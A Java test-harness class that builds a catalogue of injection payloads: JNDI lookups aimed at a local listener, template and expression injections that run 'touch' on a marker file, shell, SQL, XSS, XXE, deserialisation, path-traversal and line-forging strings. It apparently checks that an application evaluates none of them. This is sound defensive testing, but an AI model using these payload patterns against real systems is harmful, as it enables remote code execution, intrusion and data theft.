package souk.it.harness.wire;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/**
 * Texts that other systems have evaluated: expressions, lookups, templates, serialised objects,
 * queries, markup, line breaks. Each would leave a trace: a connection, a file, a product, a line.
 */
public final class Payloads {
  /** Product that an evaluated expression would show. */
  public static final String PRODUCT = "1806334805";

  /** Begin of a line that a line break would forge. */
  public static final String FORGED = "FORGED-LINE";

  private static final String SUM = "42487*42515";

  private Payloads() {}

  /**
   * @param port of a listener that nobody must call
   * @param mark file that nobody must make
   */
  public static List<String> all(int port, Path mark) {
    String touch = "touch " + mark;
    String host = "127.0.0.1:" + port;
    List<String> all = new ArrayList<>();
    for (String scheme : List.of("ldap", "ldaps", "rmi", "dns", "iiop", "http")) {
      all.add("${jndi:" + scheme + "://" + host + "/a}");
    }
    all.add("${${lower:j}ndi:${lower:l}dap://" + host + "/a}");
    all.add("${${::-j}${::-n}${::-d}${::-i}:ldap://" + host + "/a}");
    all.add("%24%7Bjndi%3Aldap%3A%2F%2F" + host + "%2Fa%7D");
    all.add("${jndi:ldap://" + host + "/${env:PATH}}");
    all.add("${sys:user.home} ${env:HOME} ${java:version}");
    for (String shell :
        List.of(
            "${%s}",
            "#{%s}",
            "%%{%s}",
            "{{%s}}",
            "<%%= %s %%>",
            "*{%s}",
            "@{%s}",
            "[[${%s}]]",
            "$(( %s ))",
            "~{%s}",
            "#set($x=%s)$x",
            "{%% print(%s) %%}",
            "=%s",
            "T(java.lang.Math).multiplyExact(%s)")) {
      all.add(shell.formatted(SUM));
    }
    String run = "T(java.lang.Runtime).getRuntime().exec('" + touch + "')";
    all.add("#{" + run + "}");
    all.add("${" + run + "}");
    all.add("__${" + run + "}__::.x");
    all.add(
        "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('"
            + touch
            + "'))}");
    all.add("(#cmd='" + touch + "').(@java.lang.Runtime@getRuntime().exec(#cmd))");
    all.add("script::Runtime r = Runtime.getRuntime(); r.exec(\"" + touch + "\");");
    all.add("new java.lang.ProcessBuilder({\"sh\",\"-c\",\"" + touch + "\"}).start()");
    all.add("java.lang.Runtime.getRuntime().exec(\"" + touch + "\")");
    all.add("<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"" + touch + "\")}");
    all.add("{{''.getClass().forName('java.lang.Runtime').getRuntime().exec('" + touch + "')}}");
    all.add("$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"" + touch + "\")");
    all.add("nashorn:java.lang.Runtime.getRuntime().exec('" + touch + "')");
    all.add("$(" + touch + ")");
    all.add("`" + touch + "`");
    all.add("; " + touch + " #");
    all.add("| " + touch);
    all.add("'; DROP TABLE document; --");
    all.add("' OR '1'='1");
    all.add("\" UNION SELECT body FROM document --");
    all.add("COPY (SELECT 1) TO '" + mark + "'");
    all.add("read_csv('" + mark + "')");
    all.add("<script>alert(" + SUM + ")</script>");
    all.add("\"><img src=http://" + host + "/x>");
    all.add("<!DOCTYPE x [<!ENTITY e SYSTEM \"http://" + host + "/e\">]><x>&e;</x>");
    all.add("rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==");
    all.add("[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://" + host + "/a\"}]");
    all.add(
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://"
            + host
            + "/\"]]]]");
    all.add("http://" + host + "/fetched");
    all.add("file://" + mark);
    all.add("jar:http://" + host + "/a.jar!/");
    all.add("../../../../etc/passwd");
    all.add("..\\..\\windows\\win.ini");
    all.add("x\r\n" + FORGED + " one");
    all.add("x\n" + FORGED + " two");
    all.add("x\r" + FORGED + " three");
    all.add("x\u2028" + FORGED + " four");
    all.add("x\u0085" + FORGED + " five");
    all.add("%0d%0a" + FORGED + " six");
    all.add("\u001b[31m" + FORGED + " seven");
    all.add("\u0000");
    all.add("\ud800");
    all.add("\u202e\u0000\ufeff");
    return List.copyOf(all);
  }
}
